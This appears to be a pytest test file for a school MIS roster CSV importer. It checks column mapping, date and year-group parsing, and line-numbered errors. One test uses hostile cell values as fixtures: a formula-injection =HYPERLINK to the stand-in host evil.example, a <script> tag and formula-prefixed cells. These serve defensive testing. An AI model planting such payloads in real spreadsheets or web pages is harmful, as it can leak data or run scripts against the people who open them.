"""The MIS roster CSV: mapped columns, unknown blanks, errors with file and line, hostile cells."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

from connectors.roster import Columns, RosterSource, Settings, parse_year
from enforcer.config import load_config
from enforcer.model.errors import InputError
from enforcer.model.values import RosterEntry
from tests.demo.conftest import ROSTER_DATA


def read(path: Path, **settings: object) -> list[RosterEntry]:
    return list(RosterSource("mis", path, Settings(path=str(path), **settings)).collect())  # type: ignore[arg-type]


def write(tmp_path: Path, text: str, name: str = "r.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


HEAD = "UPN,Forename,Surname,DOB,Year,On Roll,Internet Consent\n"


def test_default_columns_with_bom_and_crlf() -> None:
    rows = read(ROSTER_DATA / "sims-default.csv")
    assert [r.pupil_id for r in rows] == [f"A10000000000{i}" for i in range(1, 7)]
    poppy, reuben, esme, toby, nadia, hugo = rows
    assert (poppy.given_name, poppy.family_name, poppy.date_of_birth) == ("Poppy", "Shaw", date(2018, 3, 14))
    assert (poppy.year_group, poppy.on_roll, poppy.internet_consent) == (3, True, True)
    assert (reuben.year_group, reuben.internet_consent) == (0, False)
    assert (esme.date_of_birth, esme.year_group, esme.internet_consent) == (date(2021, 6, 30), -1, None)
    assert toby.year_group is None and toby.date_of_birth == date(2017, 8, 31)
    assert (nadia.year_group, nadia.on_roll) == (6, False)
    assert (hugo.date_of_birth, hugo.year_group, hugo.on_roll, hugo.internet_consent) == (None, 5, None, None)
    assert all(r.source == "mis" and r.username is None for r in rows)


def test_renamed_columns_from_the_configuration(tmp_path: Path) -> None:
    cfg = tmp_path / "c.yaml"
    cfg.write_text(f"""sources:
  - name: arbor
    type: roster
    path: {ROSTER_DATA / "arbor-renamed.csv"}
    delimiter: ";"
    columns:
      pupil_id: MIS ID
      given_name: Legal first name
      family_name: Legal last name
      date_of_birth: Date of birth
      year_group: NC Year
      on_roll: Enrolment status
      internet_consent: Online consent
      username: Network login
""")
    sc = load_config(cfg).sources[0]
    rows = list(RosterSource(sc.name, Path(sc.settings.path), sc.settings).collect())
    assert [(r.pupil_id, r.year_group, r.on_roll, r.internet_consent, r.username) for r in rows] == [
        ("ARB-0001", 4, True, True, "willow.f21"),
        ("ARB-0002", 1, True, False, "ibrahim.h24"),
        ("ARB-0003", 5, False, True, None),
    ]
    assert rows[0].date_of_birth == date(2017, 1, 20)


def test_unknown_mapping_key_is_a_config_error_with_line(tmp_path: Path) -> None:
    cfg = tmp_path / "c.yaml"
    cfg.write_text(
        "sources:\n  - name: mis\n    type: roster\n    path: r.csv\n    columns:\n      pupil: UPN\n"
    )
    with pytest.raises(InputError) as err:
        load_config(cfg)
    assert err.value.line == 6


def test_bad_date_names_its_line() -> None:
    path = ROSTER_DATA / "bad-date.csv"
    with pytest.raises(InputError) as err:
        read(path)
    assert (err.value.path, err.value.line) == (str(path), 4)
    assert "31/02/2018" in err.value.message


def test_missing_column_is_line_1() -> None:
    path = ROSTER_DATA / "missing-column.csv"
    with pytest.raises(InputError) as err:
        read(path)
    assert (err.value.path, err.value.line) == (str(path), 1)
    assert "'DOB'" in err.value.message and "'Date of Birth'" in err.value.message
    assert read(path, columns=Columns(date_of_birth="date of birth"))[0].date_of_birth == date(2018, 5, 3)
    assert read(path, columns=Columns(date_of_birth=None))[0].date_of_birth is None


def test_hostile_cells_are_plain_data() -> None:
    rows = read(ROSTER_DATA / "hostile.csv")
    assert rows[0].given_name == '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    assert rows[1].given_name == "<script>alert('x')</script>"
    assert rows[1].family_name == "O'Brien <b>&amp;</b>"
    assert (rows[2].given_name, rows[2].family_name) == ("+SUM(1,2)", "Line one\nline two")
    assert (rows[3].given_name, rows[3].family_name, rows[3].internet_consent) == ("@cmd", "-2+3", False)


@pytest.mark.parametrize(
    ("body", "line", "words"),
    [
        ("A1,Amy,Lee,01/01/2018,Year 2,Yes,maybe\n", 2, "internet consent 'maybe'"),
        ("A1,Amy,Lee,01/01/2018,Year 2,perhaps,Yes\n", 2, "on roll 'perhaps'"),
        ("A1,Amy,Lee,01/01/2018,Year Two,Yes,Yes\n", 2, "year group"),
        ("A1,Amy,Lee,01/01/2018,Year 2,Yes,Yes\nA1,Ben,Lee,01/01/2018,Year 2,Yes,Yes\n", 3, "appears twice"),
        (",Amy,Lee,01/01/2018,Year 2,Yes,Yes\n", 2, "no pupil id"),
        ("A1,Amy,Lee,01/01/2018,Year 2,Yes\n", 2, "6 cells"),
        ("A1,Amy,Lee,01/01/2018,Year 2,Yes,Yes,extra\n", 2, "8 cells"),
        (
            'A1,"Amy\nJane",Lee,01/01/2018,Year 2,Yes,Yes\nA2,Bo,Lee,2018-13-01,Year 2,Yes,Yes\n',
            4,
            "2018-13-01",
        ),
        ('A1,"Amy,Lee,01/01/2018,Year 2,Yes,Yes\n', 2, "malformed"),
    ],
)
def test_bad_rows_name_their_line(tmp_path: Path, body: str, line: int, words: str) -> None:
    path = write(tmp_path, HEAD + body)
    with pytest.raises(InputError) as err:
        read(path)
    assert (err.value.path, err.value.line) == (str(path), line), str(err.value)
    assert words in err.value.message


def test_blank_lines_are_skipped_and_line_numbers_stay_true(tmp_path: Path) -> None:
    path = write(
        tmp_path, HEAD + "A1,Amy,Lee,01/01/2018,Year 2,Yes,Yes\n\n,,,,,,\nA2,Bo,Lee,bad,Year 2,Yes,Yes\n"
    )
    with pytest.raises(InputError) as err:
        read(path)
    assert err.value.line == 5


def test_empty_missing_and_undecodable_files(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="empty") as err:
        read(write(tmp_path, ""))
    assert err.value.line == 1
    with pytest.raises(InputError, match="roster file not found"):
        read(tmp_path / "nope.csv")
    with pytest.raises(InputError, match="is a directory, not a roster file"):
        read(tmp_path)
    with pytest.raises(InputError, match="cannot read roster file"):
        read(tmp_path / ("x" * 300 + ".csv"))  # ENAMETOOLONG: any other OSError gets the same wording
    bad = tmp_path / "latin1.csv"
    bad.write_bytes(HEAD.encode() + "A1,Zoë,Lee,01/01/2018,Year 2,Yes,Yes\n".encode("latin-1"))
    with pytest.raises(InputError, match="utf-8") as err:
        read(bad)
    assert read(bad, encoding="latin-1")[0].given_name == "Zoë"


def test_custom_yes_no_words_and_date_formats(tmp_path: Path) -> None:
    path = write(tmp_path, HEAD + "A1,Amy,Lee,2018.01.31,3,C,Granted\n")
    rows = read(path, date_formats=["%Y.%m.%d"], true_values=["c", "granted"], false_values=["l", "refused"])
    assert (rows[0].date_of_birth, rows[0].on_roll, rows[0].internet_consent) == (
        date(2018, 1, 31),
        True,
        True,
    )


@pytest.mark.parametrize(
    ("text", "year"),
    [
        ("N1", -2),
        ("N2", -1),
        ("Nursery", -1),
        ("R", 0),
        ("Reception", 0),
        ("Year R", 0),
        ("YR", 0),
        ("Year 1", 1),
        ("Y6", 6),
        ("6", 6),
        (" year  3 ", 3),
    ],
)
def test_year_group_words(text: str, year: int) -> None:
    assert parse_year(text) == year


@pytest.mark.parametrize("text", ["Year Two", "Y-1", "Class 3B", "7a"])
def test_year_group_nonsense_is_refused(text: str) -> None:
    with pytest.raises(ValueError):
        parse_year(text)
